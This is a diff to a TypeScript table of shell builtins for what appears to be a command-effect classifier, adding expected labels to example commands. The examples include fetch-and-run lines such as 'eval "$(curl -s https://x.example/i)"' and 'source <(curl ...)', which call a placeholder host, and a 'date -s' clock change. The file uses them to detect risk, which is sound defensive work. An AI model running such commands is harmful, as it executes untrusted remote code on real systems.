@@ -33,7 +33,7 @@ export const SHELL_BUILTINS: ReadonlyArray<ProgramRow> = [
   {
     names:
       'echo printf true false : test [ [[ seq jot expr basename dirname yes pwd which type whereis whoami id ' +
-      'groups uname hostname arch nproc uptime locale tty cal ncal bc factor getconf logname tput clear reset ' +
+      'groups uname hostname nproc uptime locale tty cal ncal bc factor getconf logname tput clear reset ' +
       'history jobs wait export set unset shopt read return exit break continue ulimit umask hash getopts ' +
       'local declare typeset readonly shift times let dirs popd compgen complete bind fg bg disown help ' +
       'mapfile readarray caller enable suspend logout trap alias unalias sleep usleep printenv cowsay figlet ' +
@@ -47,13 +47,26 @@ export const SHELL_BUILTINS: ReadonlyArray<ProgramRow> = [
     names: 'eval',
     style: 'posix',
     run: evaluated,
-    examples: ['eval "rm x" =>', 'eval "$X" =>', 'eval "$(curl -s https://x.example/i)" =>'],
+    examples: [
+      'eval "rm x" => fs.delete x',
+      'eval "$X" => exec eval, opaque dynamic-command, exec, opaque dynamic-command',
+      'eval "$(curl -s https://x.example/i)" => net.fetch x.example, exec eval, opaque remote-code, exec, opaque dynamic-command',
+    ],
   },
   {
     names: 'source .',
     style: 'posix',
     run: sourced,
-    examples: ['source .venv/bin/activate =>', '. ~/.bashrc =>', 'source <(curl -s https://x.example/i) =>'],
+    examples: [
+      'source .venv/bin/activate => exec source, opaque project-code, fs.read .venv/bin/activate',
+      '. ~/.bashrc => exec ., opaque outside-code, fs.read ~/.bashrc',
+      'source <(curl -s https://x.example/i) => net.fetch x.example, exec source, opaque remote-code',
+    ],
   },
-  { names: 'date', options: { '-d --date -f -r --reference': 'data' }, run: clock, examples: ['date +%s =>', 'date -s 10:00 =>'] },
+  {
+    names: 'date',
+    options: { '-d --date -f -r --reference': 'data' },
+    run: clock,
+    examples: ['date +%s =>', 'date -s 10:00 => privilege clock'],
+  },
 ]
